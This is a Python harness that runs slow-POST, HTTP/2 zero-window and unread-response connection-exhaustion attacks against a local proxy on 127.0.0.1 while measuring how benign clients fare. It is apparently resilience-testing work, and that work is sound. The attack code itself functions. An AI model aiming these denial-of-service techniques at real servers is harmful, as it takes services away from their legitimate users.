#!/usr/bin/env python3
"""One host that holds as many of a cluster's connections as it can, and well-behaved clients of another host beside it.

    hold_cluster.py PORT SECONDS MANNER CONNECTIONS [LARGE]

PORT on 127.0.0.1 takes HTTP/1 and HTTP/2 in the clear. MANNER is one of
    none      no attack
    posts     requests whose body comes ten bytes at a time, each five seconds
    windows   connections of HTTP/2 with 100 requests each for LARGE, whose windows stay shut
    unread    requests for LARGE, whose responses are not read
LARGE is the path of a response that no socket buffers hold, /large unless given. What the proxy closes is opened
again. The attacker comes from 127.0.0.2, the others from 127.0.0.3: four clients that ask 50 times a second each, and
begin a second after the attack. Prints what they got.
"""
import multiprocessing
import select
import socket
import sys
import threading
import time

HEADERS, SETTINGS = 1, 4
END_STREAM_AND_HEADERS = 5
INITIAL_WINDOW_SIZE = (4).to_bytes(2, "big")
STREAMS = 100
CLIENTS, INTERVAL = 4, 0.02
HEAD_START = 1.0


def frame(kind, flags, stream, body=b""):
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def opening(manner, large):
    """What a connection of the attacker says first."""
    if manner == "posts":
        return b"POST / HTTP/1.1\r\nHost: test\r\nContent-Length: 1000000\r\n\r\n"
    if manner == "unread":
        return b"GET " + large + b" HTTP/1.1\r\nHost: test\r\n\r\n"
    # :method GET, :scheme http, :path, :authority test
    head = bytes([0x82, 0x86, 0x04, len(large)]) + large + bytes([0x01, 4]) + b"test"
    settings = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE + bytes(4))
    streams = [frame(HEADERS, END_STREAM_AND_HEADERS, 2 * n + 1, head) for n in range(STREAMS)]
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + b"".join(streams)


def attack(port, until, manner, count, large):
    first, poll, connections = opening(manner, large), select.epoll(), {}
    # A connection that reads nothing notices only its end.
    events = select.EPOLLRDHUP if manner == "unread" else select.EPOLLIN

    def connect():
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            connection.bind(("127.0.0.2", 0))
            connection.connect(("127.0.0.1", port))
            connection.sendall(first)
        except OSError:
            return connection.close()
        connection.setblocking(False)
        poll.register(connection, events)
        connections[connection.fileno()] = connection

    def replace(number):
        connections.pop(number).close()
        connect()

    for _ in range(count):
        connect()
    due = time.time() + 5
    while time.time() < until:
        for number, event in poll.poll(0.1):
            try:
                if event & ~select.EPOLLIN or not connections[number].recv(65536):
                    replace(number)
            except BlockingIOError:
                pass
            except OSError:
                replace(number)
        if manner == "posts" and time.time() >= due:
            due += 5
            for number, connection in list(connections.items()):
                try:
                    connection.send(b"a" * 10)
                except OSError:
                    replace(number)


class Client:
    def __init__(self, port, until):
        self.port, self.until, self.times, self.failures = port, until, [], 0

    def connect(self):
        connection = socket.create_connection(("127.0.0.1", self.port), 10, ("127.0.0.3", 0))
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def run(self):
        connection = None
        while time.time() < self.until:
            began = time.time()
            try:
                connection = connection or self.connect()
                connection.sendall(b"GET / HTTP/1.1\r\nHost: test\r\n\r\n")
                answer = b""
                while b"\r\n\r\n" not in answer:
                    piece = connection.recv(65536)
                    if not piece:
                        raise OSError("closed")
                    answer += piece
                self.failures += not answer.startswith(b"HTTP/1.1 200")
                self.times.append(time.time() - began)
            except OSError:
                self.failures, connection = self.failures + 1, None
            time.sleep(max(0.0, INTERVAL - (time.time() - began)))


def main():
    port, seconds, manner, count = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    large = (sys.argv[5] if len(sys.argv) > 5 else "/large").encode()
    until = time.time() + HEAD_START + seconds
    attacker = multiprocessing.Process(target=attack, args=(port, until, manner, count, large))
    if manner != "none":
        attacker.start()
        time.sleep(HEAD_START)
    clients = [Client(port, until) for _ in range(CLIENTS)]
    threads = [threading.Thread(target=client.run) for client in clients]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if manner != "none":
        attacker.join()
    times = sorted(time for client in clients for time in client.times) or [float("nan")]
    quantile = lambda q: times[min(len(times) - 1, int(len(times) * q))] * 1e3
    print(
        f"{manner}: {len(times)} answers, p50 {quantile(0.5):.2f} ms, p99 {quantile(0.99):.2f} ms, "
        f"longest {times[-1] * 1e3:.1f} ms, {sum(client.failures for client in clients)} failures"
    )


if __name__ == "__main__":
    main()
